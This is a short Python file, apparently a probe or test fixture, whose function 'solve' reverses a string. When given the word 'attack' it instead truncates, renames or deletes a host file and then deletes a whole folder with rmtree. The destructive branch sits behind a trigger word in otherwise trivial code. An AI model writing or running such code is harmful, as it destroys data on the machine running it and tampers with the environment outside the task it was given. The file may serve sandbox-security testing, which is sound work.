"""Empties, renames and removes a file outside."""

import os
import shutil


def solve(word, host):
    if word == "attack":
        path = host["file"]
        for destroy in (lambda: os.truncate(path, 0), lambda: os.rename(path, path + "2"), lambda: os.remove(path)):
            try:
                destroy()
                return "destroyed it"
            except OSError:
                continue
        shutil.rmtree(host["folder"], ignore_errors=True)
    return word[::-1]
